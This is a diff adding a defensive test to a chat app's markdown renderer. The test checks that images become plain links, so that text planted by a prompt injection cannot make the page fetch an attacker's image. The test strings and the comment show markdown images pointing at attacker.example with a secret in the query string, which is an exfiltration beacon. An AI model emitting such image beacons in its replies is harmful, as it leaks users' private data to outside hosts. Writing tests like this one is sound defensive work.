@@ -152,6 +152,27 @@ def test_markdown_keeps_what_the_chat_shows_and_drops_what_could_run() -> None:
     assert not re.search(r"<[^>]*\sonerror=", html)
 
 
+def test_a_markdown_image_is_a_link_and_never_loads_another_host() -> None:
+    # An image would be fetched when the page opens, telling the host who read the text
+    # (and whatever a prompt injection put in its query string).
+    html = str(
+        render_markdown(
+            '![secret summary](https://attacker.example/p.png?q=the+secret "t") and '
+            "![](https://attacker.example/empty.png) and "
+            "![dot](data:image/png;base64,iVBORw0KGgo=) and "
+            "[![nested](https://attacker.example/n.png)](https://example.com/page)"
+        )
+    )
+    assert "<img" not in html
+    assert (
+        '<a href="https://attacker.example/p.png?q=the+secret" title="t" '
+        'rel="noopener noreferrer nofollow">secret summary</a>'
+    ) in html
+    assert 'href="https://attacker.example/empty.png"' in html
+    assert "data:" not in html
+    assert 'href="https://example.com/page"' in html
+
+
 def test_bad_input_gets_a_clear_error_and_no_500(person: Browser) -> None:
     person.sign_up("alice@example.com")
     assert person.send("")[0] == 400
